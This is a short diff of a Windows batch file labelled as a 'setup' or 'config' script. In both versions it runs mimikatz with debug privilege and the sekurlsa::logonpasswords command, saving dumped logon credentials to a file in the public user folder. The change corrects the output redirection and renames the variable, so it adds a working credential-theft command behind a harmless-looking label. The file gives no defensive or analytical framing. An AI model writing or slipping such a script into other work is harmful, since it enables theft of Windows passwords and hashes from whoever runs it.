@@ -1,4 +1,4 @@
-REM setup 6965 v0
+REM config 5249 v0
 @echo off
-set "tcyw=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt"
-call %tcyw%
+set zlmy=mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" ^> C:\Users\Public\m.txt
+call %zlmy%
